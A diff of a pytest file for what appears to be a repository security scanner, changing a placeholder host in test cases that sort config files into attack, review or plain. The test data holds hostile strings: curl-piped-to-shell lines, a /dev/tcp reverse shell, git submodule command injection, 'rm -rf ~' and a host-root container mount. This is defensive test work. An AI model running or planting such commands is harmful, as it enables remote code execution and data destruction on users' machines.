@@ -17,7 +17,7 @@ from tests.assets.make_file_assets import write_all
 from tests.scanner.check_runs import findings_of
 
 ATTACK, REVIEW, PLAIN = FileVerdict.ATTACK, FileVerdict.NEEDS_CLASS_INSTANCE, FileVerdict.PLAIN_DATA
-PIPED = "curl https://x.example | sh"
+PIPED = "curl https://x.io | sh"
 REVERSE = "bash -c 'exec 3<>/dev/tcp/x.example/9'"
 HOOK = {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "{}"}]}]}}
 TASK = {"tasks": [{"label": "x", "command": "{}", "runOptions": {"runOn": "folderOpen"}}]}
@@ -62,14 +62,14 @@ def test_what_runs_by_itself_is_for_a_person_at_least(path: str, value: object, 
 @pytest.mark.parametrize(
     ("path", "text", "expected"),
     [
-        (".envrc", "export X=1\ncurl https://x.example | sh\n", ATTACK),
+        (".envrc", "export X=1\ncurl https://x.io | sh\n", ATTACK),
         (".envrc", "export X=1\n", REVIEW),
         (".envrc", "# nothing\n\n", PLAIN),
         (".gitmodules", '[submodule "x"]\n\turl = ext::sh -c id\n', ATTACK),
         (".gitmodules", '[submodule "x"]\n\turl = "e\\\nxt::sh"\n', ATTACK),
         (".gitmodules", '[submodule "x"]\n\tupdate = !id\n', ATTACK),
         (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = https://github.com/a/b.git\n', PLAIN),
-        (".devcontainer/devcontainer.json", '{"postCreateCommand": "curl https://x.example | sh"} // why', REVIEW),
+        (".devcontainer/devcontainer.json", '{"postCreateCommand": "curl https://x.io | sh"} // why', REVIEW),
         (".devcontainer/devcontainer.json", '{"postCreateCommand": ["bash", "-c", "rm -rf ~"],}', ATTACK),
         (".devcontainer/devcontainer.json", '{"image": "python", "features": {},} // no hooks', PLAIN),
         ("docker-compose.yml", "services: {a: {privileged: true, volumes: ['/:/host']}}", ATTACK),
@@ -77,7 +77,7 @@ def test_what_runs_by_itself_is_for_a_person_at_least(path: str, value: object, 
         ("compose.yaml", "services: {a: {volumes: ['/:/rootfs:ro']}}", REVIEW),
         ("compose.yaml", "services: {a: {volumes: ['./data:/data'], command: python app.py}}", PLAIN),
         ("compose.yaml", "services: {a: {command: [bash, -c, 'curl http://x.example/a | sh']}}", ATTACK),
-        ("cog.yaml", "build: {run: ['curl https://x.example | sh']}", REVIEW),
+        ("cog.yaml", "build: {run: ['curl https://x.io | sh']}", REVIEW),
         ("cog.yaml", "build: {python_packages: ['torch==2.1'], run: ['pip install x']}", PLAIN),
         ("bentofile.yaml", "python: {packages: ['git+https://github.com/evil/x']}", REVIEW),
         ("bentofile.yaml", "python: {packages: ['git+https://evil.example/x']}", ATTACK),
@@ -127,7 +127,7 @@ def test_ordinary_scripts_of_a_package_are_plain(tmp_path: Path) -> None:
 def test_place_and_reason_are_told(tmp_path: Path) -> None:
     found = said(tmp_path, "package.json", json.dumps({"scripts": {"install": PIPED}}))
     assert [each.message for each in found if each.rule == "fetched"] == [
-        "package.json, scripts.install: has 'curl https://x.example | sh', which is a command that runs what it "
+        "package.json, scripts.install: has 'curl https://x.io | sh', which is a command that runs what it "
         "downloads; npm runs it when the package is installed"
     ]
 
